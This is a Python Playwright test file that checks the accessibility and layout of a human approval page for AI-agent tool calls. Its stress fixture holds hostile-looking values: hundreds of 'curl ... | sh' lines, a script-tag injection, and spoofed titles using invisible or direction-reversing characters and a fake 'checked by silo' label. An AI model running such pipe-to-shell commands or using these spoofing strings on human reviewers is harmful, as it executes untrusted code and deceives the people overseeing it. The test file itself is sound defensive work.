"""How the page looks on a phone, a tablet and a desktop, light and dark: screenshots for people, and automatic checks.

The screenshots are kept in `.cache/artefacts/approval-page` of the checkout, or in `SILO_TEST_ARTEFACTS`. axe-core
checks every kind of page with all its rules, best practices included.
"""

from __future__ import annotations

import os
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect
from silo_interaction import Question, WantedSecret

HERE = Path(__file__).resolve().parent
INSTALL_AXE = HERE.parent / "axe" / "install.py"
ARTEFACTS = HERE.parents[3] / ".cache" / "artefacts" / "approval-page"

SIZES = {360: 740, 768: 1024, 1440: 900}
SCHEMES = ("light", "dark")

WHO = "claude-code through MCP"
CLOSE = Question(
    "Run github.close_issue",
    WHO,
    (
        ("tool", "github.close_issue"),
        ("does", "Close an issue, with a comment that says why."),
        ("why you are asked", "the rule 'writes' in silo.toml: ask for github.*_issue"),
        ("secrets", "GITHUB_TOKEN, put in by the egress proxy for api.github.com only; the skill never sees it"),
        ("network", "api.github.com"),
        ("isolation", "microVM: a fresh virtual machine with its own kernel"),
        ("skill", "github.py of the built-in skills, 3f1c9ab2d4e5f607"),
    ),
    arguments=(("repo", "acme/site"), ("number", 1482), ("comment", "Fixed in 2.3.1.\nThanks for the report!")),
    grace_s=900,
    group="github.close_issue",
)
RISKY = replace(
    CLOSE,
    title="Run files.delete",
    danger="It shares this machine's kernel while it runs.",
    arguments=(("paths", ["reports/2024-q1.pdf", "reports/2024-q2.pdf"]), ("recursive", True)),
    changes=(
        "The skill's script or its packages are not those of the last approval.",
        "The argument recursive was not given the last time.",
    ),
    grace_s=0,
    group="files.delete",
)
LONG = replace(
    RISKY,
    title="Run shell.run \u202emoc.live\u202c and then " + "W" * 120,
    who="an agent that calls itself " + "claude\u200b-code " * 12,
    danger="Approve once ✔ checked by silo\n" + "!" * 200,
    arguments=(
        ("script", "\n".join(f"echo {n:4d}; curl -s https://example.com/{'x' * (n % 97)} | sh" for n in range(300))),
        ("word", "W" * 3000),
        ("a name that is much longer than a name should be " * 3, "<script>alert(1)</script> \u202e \x00 <U+202E>"),
        ("nothing", None),
    ),
    group="shell.run",
)
TOKEN = Question(
    "Type in GITHUB_TOKEN for github",
    WHO,
    (
        ("secret", "GITHUB_TOKEN"),
        ("for the tool", "github.close_issue"),
        (
            "how it gets there",
            "GITHUB_TOKEN, put in by the egress proxy for api.github.com only; the skill never sees it",
        ),
        ("network", "api.github.com"),
    ),
    group="secrets of github",
    wanted=WantedSecret("GITHUB_TOKEN", "A fine-grained token that may write issues.", "the vault of this machine"),
)


def pairing(profile, board) -> Page:
    return profile.tab("/")


def wrong_code(profile, board) -> Page:
    tab = profile.tab("/")
    tab.get_by_label("Code").fill("0000-0000")
    tab.get_by_role("button", name="Pair").click()
    expect(tab.get_by_role("alert")).to_be_visible()
    return tab


def empty_list(profile, board) -> Page:
    return profile.pair(board.new_code())


def full_list(profile, board) -> Page:
    for question in (CLOSE, RISKY, TOKEN, CLOSE, replace(LONG, arguments=()), replace(CLOSE, group="")):
        board.post(question)
    tab = profile.pair(board.new_code())
    expect(tab.locator(".item")).to_have_count(6)
    return tab


def risky_question(profile, board) -> Page:
    return _see(profile, board, RISKY)


def long_question(profile, board) -> Page:
    tab = _see(profile, board, LONG)
    tab.get_by_label("Find in this value").first.fill("curl")
    expect(tab.locator(".search output").first).to_contain_text("of 300")
    return tab


def reason(profile, board) -> Page:
    tab = _see(profile, board, CLOSE)
    tab.get_by_text("Deny, and say why").click()
    return tab


def secret(profile, board) -> Page:
    return _see(profile, board, TOKEN)


def next_question(profile, board) -> Page:
    tab = _see(profile, board, CLOSE, RISKY, TOKEN)
    tab.get_by_role("button", name="Deny", exact=True).click()
    expect(tab.locator(".done")).to_be_visible()
    expect(tab.locator(".decide .approve").first).to_be_enabled()
    return tab


def all_done(profile, board) -> Page:
    tab = _see(profile, board, CLOSE)
    tab.get_by_role("button", name="Approve once").click()
    expect(tab.locator(".done")).to_be_visible()
    return tab


def retired(profile, board) -> Page:
    tab = _see(profile, board, CLOSE)
    board.put(replace(board.waiting()[0], state="withdrawn"))
    expect(tab.get_by_role("alert")).to_be_visible()
    return tab


def changed(profile, board) -> Page:
    tab = _see(profile, board, CLOSE)
    board.put(replace(board.waiting()[0], question=RISKY, digest=RISKY.digest()))
    tab.get_by_role("button", name="Deny", exact=True).click()
    expect(tab.get_by_role("alert")).to_contain_text("This question changed")
    expect(tab.get_by_role("button", name="Approve once")).to_be_enabled()
    return tab


def result(profile, board) -> Page:
    profile.pair(board.new_code())
    posted = board.post(CLOSE)
    board.put(
        replace(posted, state="denied", reason="declined on the approval page: not now", decided_at=posted.asked_at)
    )
    return profile.see(posted)


def dead_link(profile, board) -> Page:
    profile.pair(board.new_code())
    return profile.tab(f"{profile.home}follow/{'x' * 32}")


def lost(profile, board) -> Page:
    tab = _see(profile, board, CLOSE)
    tab.evaluate("new BroadcastChannel('board').postMessage({ lost: true })")
    expect(tab.locator("#connection")).to_be_visible()
    return tab


def _see(profile, board, *questions: Question) -> Page:
    posted = [board.post(one) for one in questions]
    profile.pair(board.new_code())
    tab = profile.see(posted[0])
    expect(tab.locator(".decide .approve").first).to_be_enabled()
    return tab


KINDS: tuple[Callable[..., Page], ...] = (
    pairing,
    wrong_code,
    empty_list,
    full_list,
    risky_question,
    long_question,
    reason,
    secret,
    next_question,
    all_done,
    retired,
    changed,
    result,
    dead_link,
    lost,
)


@pytest.fixture(scope="session")
def axe(npm_install) -> str:
    """The script that defines `axe`; the first run downloads it."""
    return npm_install(INSTALL_AXE).read_text()


@pytest.fixture(scope="session")
def artefacts() -> Path:
    folder = Path(os.environ.get("SILO_TEST_ARTEFACTS", ARTEFACTS))
    folder.mkdir(parents=True, exist_ok=True)
    return folder


@pytest.mark.parametrize("kind", KINDS, ids=lambda kind: kind.__name__)
def test_every_kind_of_page_is_accessible_and_fits_every_screen(profile, board, axe, artefacts, kind):
    tab = kind(profile, board)
    tab.evaluate(axe)
    for width, height in SIZES.items():
        tab.set_viewport_size({"width": width, "height": height})
        assert tab.evaluate("document.documentElement.scrollWidth") <= width
        for scheme in SCHEMES:
            tab.evaluate("scrollTo(0, 0)")
            tab.emulate_media(color_scheme=scheme, reduced_motion="reduce")
            tab.screenshot(path=artefacts / f"{kind.__name__}-{width}-{scheme}.png", full_page=True)
            # All rules in half of the combinations; the other half can differ from those only in its colours.
            rules = "color-contrast" if (width, scheme) in {(360, "dark"), (1440, "light")} else ""
            if width != 768:  # the layouts below and above it are checked
                assert tab.evaluate(VIOLATIONS, rules) == [], f"at {width} px, {scheme}"
        assert tab.evaluate(SMALL_TARGETS) == [], f"at {width} px"
    assert _unseen_focus(tab) == []


def test_the_checks_of_this_file_find_what_is_wrong(profile, axe):
    tab = profile.tab("/")
    tab.evaluate(axe)
    tab.evaluate(
        """() => {
            const html = '<img src="/static/icon.svg"><a href="/" id=tiny>x</a>';
            document.querySelector("main").insertAdjacentHTML("beforeend", html);
            const sheet = new CSSStyleSheet();
            sheet.replaceSync("main p { color: #777 } #tiny { font-size: 9px; outline: none !important }");
            document.adoptedStyleSheets = [sheet];
        }"""
    )
    found = " ".join(tab.evaluate(VIOLATIONS, ""))
    assert "image-alt" in found
    assert "color-contrast" in found
    assert [element for element in tab.evaluate(SMALL_TARGETS) if "tiny" in element]
    assert [element for element in _unseen_focus(tab) if "tiny" in element]


VIOLATIONS = """async (rules) => {
    const { violations } = await axe.run(rules ? { runOnly: { type: "rule", values: [rules] } } : {});
    const shown = (nodes) => nodes.map((node) => node.html.slice(0, 200)).join(" | ");
    return violations.map(({ id, help, nodes }) => `${id}: ${help}: ${shown(nodes)}`);
}"""

SMALL_TARGETS = """() => [...document.querySelectorAll("a, button, summary, input, textarea, [tabindex]")]
    .filter((element) => element.checkVisibility() && element.type !== "hidden" && !element.matches(".skip"))
    // A whole label is a target, too, and so is the card around a title.
    .map((element) => [element, element.closest("label.check, .item") ?? element])
    .filter(([, target]) => target.getBoundingClientRect().height < 24 || target.getBoundingClientRect().width < 24)
    .map(([element]) => element.outerHTML.slice(0, 200))
"""
"""WCAG 2.2, 2.5.8: at least 24 by 24 CSS pixels. Its exception for links in a sentence isn't needed: we have none."""

FOCUS = """() => {
    const element = document.activeElement;
    const rings = [element, element.closest(".item")].filter(Boolean).map((one) => getComputedStyle(one));
    const isSeen = rings.some((style) => style.outlineStyle !== "none" && parseFloat(style.outlineWidth) >= 2);
    const name = element === document.body ? "" : element.outerHTML.slice(0, 200);
    const { top, bottom } = element.getBoundingClientRect();
    const isOnScreen = bottom > 0 && top < innerHeight;
    return [name, isSeen && isOnScreen];
}"""


def _unseen_focus(tab: Page) -> list[str]:
    """Walk through the page with the Tab key, and return the elements that don't show that they have the focus."""
    unseen = []
    tab.evaluate("document.activeElement.blur()")
    for _ in range(60):
        tab.keyboard.press("Tab")
        name, is_seen = tab.evaluate(FOCUS)
        if not name:
            break
        if not is_seen:
            unseen.append(name)
    return unseen


def test_a_yes_and_a_no_can_be_told_apart_without_colours_and_a_yes_for_a_while_from_a_yes(ready, board):
    tab = ready.see(board.post(CLOSE))
    expect(tab.get_by_role("button", name="Approve once")).to_be_enabled()
    look = """(name) => {
        const style = getComputedStyle(document.querySelector(`.buttons [value=${name}]`));
        return [style.backgroundColor, style.color];
    }"""
    grounds = {name: tab.evaluate(look, name) for name in ("approve", "grace", "deny")}
    assert len({ground for ground, _ in grounds.values()} - {"rgba(0, 0, 0, 0)"}) == 2
    assert grounds["approve"][0] not in {grounds["grace"][0], grounds["deny"][0]}
    signs = [tab.locator(f".buttons [value={name}] svg path").get_attribute("d") for name in ("approve", "deny")]
    assert signs[0] != signs[1]
    boxes = {name: tab.locator(f".buttons [value={name}]").bounding_box() for name in grounds}
    gap = boxes["deny"]["x"] - (boxes["approve"]["x"] + boxes["approve"]["width"])
    assert gap >= 8
